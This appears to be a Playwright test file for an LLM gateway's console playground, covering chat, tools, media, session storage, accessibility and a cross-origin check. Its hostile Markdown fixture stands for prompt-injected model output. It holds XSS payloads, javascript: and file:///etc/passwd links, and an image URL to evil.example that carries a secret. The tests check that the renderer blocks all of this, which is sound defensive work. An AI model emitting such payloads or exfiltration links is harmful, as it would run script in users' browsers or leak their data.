import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { BrowserContext, Locator, Page } from 'playwright-core';
import { eventually } from '../support/eventually.ts';
import { TestGateway } from '../support/gateway.ts';
import {
  faultsInEveryView,
  joinAs,
  onConsolePage,
  openPage,
  type Session,
  settled,
  TestBrowser,
  type WatchedPage,
} from './browser.ts';
import { operatorSession, operatorSettings } from './operator-session.ts';

/** As names of models with their organisations are. */
const longName = 'zz-accounts/SOME_ORGANISATION/models/a-rather-long-model-name-2026-11-26-preview';

let gateway: TestGateway;
let browser: TestBrowser;
let session: Session;
/** Of somebody signed in. All tests share it, and what the browser has loaded. */
let context: BrowserContext;

before(async () => {
  [gateway, browser] = await Promise.all([
    TestGateway.start({
      settings: { ...operatorSettings, SLUICE_SIGN_UP_CREDIT: '1' },
      configuration: {
        models: { [longName]: { capability: 'chat', routes: [{ vendor: 'sandbox', model: 'sandbox-chat' }] } },
      },
    }),
    TestBrowser.start(),
  ]);
  session = await operatorSession(browser, gateway);
  context = await browser.context(gateway.url, 'light', session);
});

after(async () => {
  await browser?.close();
  await gateway?.stop();
});

/** Runs `work` on a page of the playground, which must end without an error of its scripts or its policy. */
function onTab(tab: string, work: (page: WatchedPage) => Promise<void>): Promise<void> {
  return onConsolePage(context, `/playground?tab=${tab}`, work);
}

/** What everybody must be able to read, in light, in dark and on a phone. */
async function assertReadable(page: WatchedPage, name: string): Promise<void> {
  assert.deepEqual(await faultsInEveryView(browser, page, name), []);
}

async function choose(page: Page, label: string, option: string): Promise<void> {
  await page
    .getByRole('combobox', { name: label, exact: true })
    .or(page.getByLabel(label, { exact: true }))
    .first()
    .click();
  await page.getByRole('option', { name: option, exact: true }).click();
}

async function say(page: Page, text: string): Promise<void> {
  await page.getByLabel('Message').fill(text);
  // Before the models are there none is chosen, and Enter sends nothing.
  await page.getByRole('button', { name: 'Send', exact: true, disabled: false }).waitFor();
  await page.getByLabel('Message').press('Enter');
}

const answers = (page: Page) => page.getByTestId('answer');
const finishedTask = (page: Page) => page.locator('[data-testid=task][data-state=done]');

/** A second of a tone. */
function wave(): Buffer {
  const rate = 8000;
  const bytes = Buffer.alloc(44 + rate * 2);
  bytes.write('RIFF', 0);
  bytes.writeUInt32LE(36 + rate * 2, 4);
  bytes.write('WAVEfmt ', 8);
  for (const [at, value] of [
    [16, 16],
    [24, rate],
    [28, rate * 2],
    [40, rate * 2],
  ] as const)
    bytes.writeUInt32LE(value, at);
  for (const [at, value] of [
    [20, 1],
    [22, 1],
    [32, 2],
    [34, 16],
  ] as const)
    bytes.writeUInt16LE(value, at);
  bytes.write('data', 36);
  for (let index = 0; index < rate; index += 1) {
    bytes.writeInt16LE(Math.round(8000 * Math.sin((index * 2 * Math.PI * 440) / rate)), 44 + index * 2);
  }
  return bytes;
}

/** Waits until the page's video says how long it is. */
const loading = `new Promise((resolve, reject) => {
  const video = document.querySelector('video');
  if (video.readyState >= 1) resolve();
  video.onloadedmetadata = () => resolve();
  video.onerror = () => reject(new Error(video.error.message));
  setTimeout(() => reject(new Error('It is not loaded.')), 30_000);
})`;

/** Plays the page's sound; done once it goes on. */
const playing = `new Promise((resolve, reject) => {
  const audio = document.querySelector('audio');
  audio.ontimeupdate = () => audio.currentTime > 0.05 && resolve();
  audio.onerror = () => reject(new Error(audio.error.message));
  audio.play().catch(reject);
  setTimeout(() => reject(new Error('It stands at ' + audio.currentTime + ' of ' + audio.duration)), 30_000);
})`;

/** One red pixel. */
const picture = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
  'base64',
);

describe('chat', () => {
  test('streams an answer, tells its cost, and keeps it while another tab is looked at', async () => {
    await onTab('chat', async (page) => {
      await say(page, 'Reply with exactly: the quick brown fox');
      await answers(page).getByText('the quick brown fox', { exact: true }).waitFor();
      await page
        .getByTestId('job-cost')
        .getByText(/in, \d+ out · \$0\.0/)
        .waitFor();
      await page.getByLabel('Message').fill('a draft');
      await page.getByRole('tab', { name: 'Image' }).click();
      await page.getByRole('tab', { name: 'Chat' }).click();
      assert.equal(await answers(page).count(), 1);
      assert.equal(await page.getByLabel('Message').inputValue(), 'a draft');
      // Times are told once, as they were here.
      const told = (await answers(page).textContent()) ?? '';
      assert.match(told, /first word after .+, all after /);
      assert.equal(told.match(/[\d.,]+ m?s/g)?.length, 2, told);
      // What only completes texts is no chat.
      await page.getByRole('combobox', { name: 'Model' }).click();
      await page.getByRole('option', { name: 'sandbox-reasoning' }).waitFor();
      assert.equal(await page.getByRole('option', { name: 'sandbox-instruct' }).count(), 0);
    });
  });

  test('chat sends the numbers of its settings as they are typed, digit by digit', async () => {
    await onTab('chat', async (page) => {
      await page.getByLabel('Temperature').pressSequentially('0.75');
      await page.getByLabel('Top P').pressSequentially('0.05');
      const sent = page.waitForRequest('**/chat/completions');
      await say(page, 'Hello');
      const { temperature, top_p: topP } = (await sent).postDataJSON();
      assert.deepEqual([temperature, topP], [0.75, 0.05]);
      await answers(page).last().waitFor();
      for (const name of ['Temperature', 'Top P']) await page.getByLabel(name).fill('');
    });
  });

  test('folds reasoning', async () => {
    await onTab('chat', async (page) => {
      await choose(page, 'Model', 'sandbox-reasoning');
      await say(page, 'Why?');
      const fold = page.getByRole('button', { name: 'Reasoning' });
      await fold.waitFor();
      assert.equal(await fold.getAttribute('aria-expanded'), 'false');
      await fold.click();
      assert.equal(await fold.getAttribute('aria-expanded'), 'true');
    });
  });

  test('chat shows a tool call, and goes on with the result that is typed in', async () => {
    await onTab('chat', async (page) => {
      await page.getByRole('switch', { name: 'Tools' }).click();
      await say(page, 'TOOL:get_weather {"city":"Oslo"}');
      await answers(page).getByText('Calls get_weather').waitFor();
      await answers(page).getByText('"Oslo"').waitFor();
      await page.getByLabel('Result of get_weather').fill('eleven degrees in Oslo');
      await page.getByRole('button', { name: 'Send results' }).click();
      await answers(page).nth(1).getByText('eleven degrees in Oslo').waitFor();
      await assertReadable(page, 'playground-tool-call');
    });
  });

  test('chat sends a picture from a file', async () => {
    await onTab('chat', async (page) => {
      const chooser = page.waitForEvent('filechooser');
      await page.getByRole('button', { name: 'Add picture', exact: true }).click();
      await (await chooser).setFiles({ name: 'dot.png', mimeType: 'image/png', buffer: picture });
      await page.getByAltText('Picture to send').waitFor();
      await say(page, 'What is this?');
      await answers(page)
        .getByText(/1x1|1 x 1|1×1/)
        .waitFor();
    });
  });

  test('chat is stopped, and says so', async () => {
    await onTab('chat', async (page) => {
      await say(page, 'WORDS:5000@50');
      await answers(page)
        .getByText(/word1 word2/)
        .waitFor();
      // By the keyboard: a growing answer pushes the button down, now and then between a press of the mouse and its release.
      await page.getByRole('button', { name: 'Stop' }).press('Enter');
      await answers(page).getByText('stopped').waitFor();
      await page.getByRole('button', { name: 'Send' }).waitFor();
    });
  });

  test('chat tells what is wrong with the tools before anything is sent', async () => {
    await onTab('chat', async (page) => {
      await page.getByRole('switch', { name: 'Tools' }).click();
      await page.getByLabel('Tools as JSON').fill('[{]');
      await page.getByText('This is not JSON').waitFor();
      await page.getByLabel('Message').fill('Hello');
      assert.ok(await page.getByRole('button', { name: 'Send' }).isDisabled());
    });
  });

  test('chat gives its request as code with a place for the key, never with a key', async () => {
    await onTab('chat', async (page) => {
      await page.getByLabel('Message').fill("It's me");
      await page.getByRole('button', { name: 'Copy as code' }).click();
      for (const language of ['curl', 'Python', 'TypeScript']) {
        await page.getByText(language, { exact: true }).click();
        await page.getByRole('region', { name: `The request in ${language}` }).waitFor();
        await page.getByRole('dialog').getByRole('button', { name: /Cop/ }).click();
        const code = await page.evaluate<string>('navigator.clipboard.readText()');
        assert.match(code, new RegExp(gateway.url.replaceAll('.', '\\.')));
        assert.match(code, /SLUICE_API_KEY/);
        assert.doesNotMatch(code, /sk-sluice/);
      }
      await assertReadable(page, 'playground-code');
      await page.keyboard.press('Escape');
      await page.getByRole('dialog').waitFor({ state: 'detached' });
      // After the answer it is the request that the answer came of.
      await page.getByLabel('Message').press('Enter');
      await page.getByTestId('job-cost').waitFor();
      await page.getByRole('button', { name: 'Copy as code' }).click();
      await page.getByRole('dialog').getByRole('button', { name: /Cop/ }).click();
      const curl = await page.evaluate<string>('navigator.clipboard.readText()');
      assert.match(curl, /"content": "It'\\''s me"/);
      assert.doesNotMatch(curl, /assistant/);
    });
  });
});

/** What a page that a model has read may have told it to write. */
const hostile = `# A heading

**bold** and \`code\` and <b>html</b> <img src="https://evil.example/1.png" onerror="document.title='run'">

<script>document.title = 'run'</script>

<iframe src="https://evil.example/frame"></iframe><link rel="stylesheet" href="https://evil.example/style.css">

![what was said](https://evil.example/2.png?said=secret) ![own](/console/api/jobs?picture) ![data](data:image/png;base64,iVBORw0KGgo=)

[good](https://good.example/path) <https://auto.example> [post](mailto:ada@example.com) www.bare.example

[script](javascript:document.title='run') [own](/console/api/auth/sign-out) [any](//evil.example/any) [text](data:text/html,run)
[file](file:///etc/passwd) [entity](java&#115;cript:document.title='run') [note][^1] ![late][late]

[^1]: A note.

[late]: https://evil.example/3.png

- [x] done
- [ ] open

| a | b |
|---|---|
| 1 | 2 |

\`\`\`js
const quoted = '<b>';
\`\`\`
`;

describe('answers', () => {
  test('answers are Markdown of which nothing is run and nothing is loaded, and which only lead where links may', async () => {
    await onTab('chat', async (page) => {
      await say(page, 'Reply with exactly: # First\n\nIt loads what draws answers.');
      await answers(page).getByRole('heading', { name: 'First' }).waitFor();
      const requests: string[] = [];
      page.on('request', (request) => requests.push(request.url()));
      await say(page, `Reply with exactly: ${hostile}`);
      const answer = answers(page).nth(1);
      await answer.getByTestId('job-cost').getByText('$').waitFor();
      await answer.getByRole('heading', { name: 'A heading' }).waitFor();
      assert.equal(await answer.locator('b, img, script, iframe, link, style, input, object, svg image').count(), 0);
      const links = await answer
        .locator('a[target]')
        .evaluateAll((all: { getAttribute(name: string): string }[]) =>
          all.map((link) => `${link.getAttribute('href')} ${link.getAttribute('rel')}`),
        );
      const apart = 'noopener noreferrer';
      assert.deepEqual(links, [
        `https://evil.example/2.png?said=secret ${apart}`,
        `https://good.example/path ${apart}`,
        `https://auto.example/ ${apart}`,
        `mailto:ada@example.com ${apart}`,
        `http://www.bare.example/ ${apart}`,
        `https://evil.example/3.png ${apart}`,
      ]);
      // The one that is left is our own, to the job.
      assert.equal(await answer.locator('a').count(), links.length + 1);
      assert.equal(await answer.getByRole('table').getByRole('cell').count(), 2);
      await answer.getByRole('button', { name: 'Copy' }).click();
      assert.equal(await page.evaluate<string>('navigator.clipboard.readText()'), "const quoted = '<b>';");
      await assertReadable(page, 'playground-markdown');
      const allowed = new RegExp(`^${gateway.url}/console/(api/(v1/chat/completions|jobs/job_|session$)|assets/)`);
      assert.deepEqual(
        requests.filter((url) => !allowed.test(url)),
        [],
      );
      assert.notEqual(await page.title(), 'run');
      const headers = (await page.request.get('/console/')).headers();
      assert.equal(headers['x-dns-prefetch-control'], 'off');
      await longChatKeeps(page);
    });
  });

  test('answers and what is typed outlast a reload, and go when their reader signs out', async () => {
    const own = await browser.context(gateway.url);
    const page = await openPage(own);
    await joinAs(own, gateway.url, 'reload@example.com');
    await page.goto('/console/playground');
    await settled(page);
    await say(page, 'Reply with exactly: it is kept');
    await answers(page).getByText('it is kept', { exact: true }).waitFor();
    await page.getByLabel('System prompt').fill('Be short.');
    await page.getByLabel('Message').fill('a draft');
    await page.reload();
    await answers(page).getByText('it is kept', { exact: true }).waitFor();
    assert.equal(await page.getByLabel('Message').inputValue(), 'a draft');
    assert.equal(await page.getByLabel('System prompt').inputValue(), 'Be short.');
    const kept = 'JSON.stringify(sessionStorage)';
    assert.match(await page.evaluate<string>(kept), /it is kept/);
    // Another tab of the same browser forgets with it.
    const other = await openPage(own);
    await other.goto('/console/playground');
    await other.getByLabel('Message').fill('another draft');
    await eventually(async () => assert.match(await other.evaluate<string>(kept), /another draft/));
    await page.getByRole('button', { name: 'Account menu' }).click();
    await page.getByRole('menuitem', { name: 'Sign out' }).click();
    await page.getByRole('heading', { name: 'Sign in' }).waitFor();
    for (const tab of [page, other]) {
      await eventually(async () =>
        assert.doesNotMatch(await tab.evaluate<string>(kept), /it is kept|draft|Be short/, 'it is still kept'),
      );
    }
    await joinAs(own, gateway.url, 'next@example.com');
    await page.goto('/console/playground');
    await settled(page);
    assert.equal(await answers(page).count(), 0);
    assert.deepEqual(page.troubles, []);
    await own.close();
  });
});

/** A chat that is longer than the window: its end, and where the next message is written, are in sight. */
async function longChatKeeps(page: WatchedPage): Promise<void> {
  await say(page, `Reply with exactly: ${'A line.\n\n'.repeat(60)}The end.`);
  await answers(page).nth(2).getByText('all after').waitFor();
  await eventually(async () => {
    assert.ok(await isInWindow(answers(page).nth(2).getByText('The end.')), 'the end of the answer is out of sight');
  });
  for (const top of [0, 1000, 100_000]) {
    await page.evaluate(`scrollTo(0, ${top})`);
    assert.ok(await isInWindow(page.getByLabel('Message')), `the field is out of sight, scrolled to ${top}`);
  }
}

async function isInWindow(part: Locator): Promise<boolean> {
  const box = await part.boundingBox();
  return box !== null && box.y >= 0 && box.y + box.height <= 900;
}

describe('media', () => {
  test('a picture appears', async () => {
    await onTab('image', async (page) => {
      await page.getByLabel('Prompt').fill('a lighthouse');
      await page.getByLabel('Size').and(page.locator('input')).fill('256x256');
      await page.keyboard.press('Escape');
      await page.getByRole('button', { name: 'Make pictures' }).click();
      const image = finishedTask(page).getByRole('img', { name: 'Picture 1 of 1' });
      await image.waitFor();
      const width = await image.evaluate(async (element: { decode(): Promise<void>; naturalWidth: number }) => {
        await element.decode();
        return element.naturalWidth;
      });
      assert.equal(width, 256);
      await assertReadable(page, 'playground-image-done');
    });
  });

  test('what the gateway refuses is told in its words', async () => {
    await onTab('image', async (page) => {
      await page.getByLabel('Prompt').fill('a lighthouse');
      await page.getByLabel('Size').and(page.locator('input')).fill('7x7');
      await page.keyboard.press('Escape');
      await page.getByRole('button', { name: 'Make pictures' }).click();
      await page.getByRole('alert').getByText(/size/).waitFor();
      // It is no job: there is nothing to read of it.
      assert.equal(await page.getByText('Reading its cost').count(), 0);
      assert.equal(await page.getByTestId('job-cost').count(), 0);
    });
  });

  test('a video is made with progress, and can be played', async () => {
    await onTab('video', async (page) => {
      await page.getByLabel('Prompt').fill('a paper boat');
      await page.getByRole('button', { name: 'Make video' }).click();
      await page.getByRole('status').getByText(/\d+ %/).waitFor();
      const video = finishedTask(page).locator('video');
      await video.waitFor({ timeout: 90_000 });
      await page.evaluate(loading);
      assert.ok((await page.evaluate<number>('document.querySelector("video").duration')) > 1, 'longer than a second');
      await assertReadable(page, 'playground-video-done');
    });
  });

  test('speech can be heard', async () => {
    await onTab('speech', async (page) => {
      await page.getByLabel('Text').fill('Hello from the gateway.');
      await choose(page, 'Format', 'wav');
      await page.getByRole('button', { name: 'Speak' }).click();
      await finishedTask(page).locator('audio').waitFor();
      await page.evaluate(playing);
    });
  });

  test('a sound file is written down, with its parts', async () => {
    await onTab('transcription', async (page) => {
      const chooser = page.waitForEvent('filechooser');
      await page.getByText('Choose a file').click();
      await (await chooser).setFiles({ name: 'tone.wav', mimeType: 'audio/wav', buffer: wave() });
      await page.getByRole('button', { name: 'Write down' }).click();
      await finishedTask(page)
        .getByText(/Audio of 1\.00 seconds/)
        .first()
        .waitFor();
      assert.ok((await page.getByRole('table', { name: 'Parts with their times' }).getByRole('row').count()) > 1);
      await assertReadable(page, 'playground-transcription-done');
    });
  });
});

test('a long name of a model is read whole in the playground on a phone, and from its beginning in charts', async () => {
  const phone = await browser.context(gateway.url, 'phone', session);
  const page = await openPage(phone);
  await page.goto(`/console/playground?model=${encodeURIComponent(longName)}`);
  await settled(page);
  await page.locator('main').getByText(longName, { exact: true }).waitFor();
  await say(page, 'Hello');
  const heading = page.getByTestId('answer').getByText(longName, { exact: true });
  await heading.waitFor();
  const widths = await heading.evaluate((text) => {
    const { scrollWidth, clientWidth } = text as unknown as Record<'scrollWidth' | 'clientWidth', number>;
    return [scrollWidth, clientWidth] as const;
  });
  assert.ok(widths[0] <= widths[1], `${widths[0]} do not fit into ${widths[1]}`);
  await page.getByRole('link', { name: 'See the job' }).waitFor();
  await eventually(async () => {
    const usage = await phone.request.get(`/console/api/usage?model=${encodeURIComponent(longName)}`);
    assert.equal((await usage.json()).total.requests, 1);
  }, 30_000);
  const label = page.locator('.recharts-yAxis-tick-labels text').filter({ hasText: '…' });
  await eventually(async () => {
    await page.goto('/console/usage?group=model');
    await settled(page);
    assert.equal(await label.count(), 1);
  }, 30_000);
  const [text, chart] = [await label.boundingBox(), await page.locator('svg.recharts-surface').first().boundingBox()];
  assert.ok((text?.x ?? 0) >= (chart?.x ?? 0), `${text?.x} is left of ${chart?.x}`);
  assert.match((await label.textContent()) ?? '', /^zz-acc.*…$/);
  await phone.close();
});

test('everybody can read every tab, in light, in dark and on a phone', async () => {
  await onTab('chat', async (page) => {
    for (const name of ['Chat', 'Image', 'Video', 'Speech', 'Transcription']) {
      await page.getByRole('tab', { name }).click();
      const panel = page.getByRole('tabpanel', { name });
      await panel.locator('input[value^="sandbox-"]').first().waitFor();
      await assertReadable(page, `playground-${name.toLowerCase()}`);
    }
  });
});

test('the playground refuses what another site sends, and whoever is not signed in', async () => {
  const other = await browser.context(gateway.url, 'light', session);
  const call = (headers: Record<string, string>) =>
    other.request.post('/console/api/v1/chat/completions', {
      data: { model: 'sandbox-chat', messages: [{ role: 'user', content: 'Hi' }] },
      headers,
    });
  assert.equal((await call({ origin: 'https://evil.example' })).status(), 403);
  assert.equal((await call({ origin: gateway.url })).status(), 200);
  await other.clearCookies();
  assert.equal((await call({ origin: gateway.url })).status(), 401);
  await other.close();
});
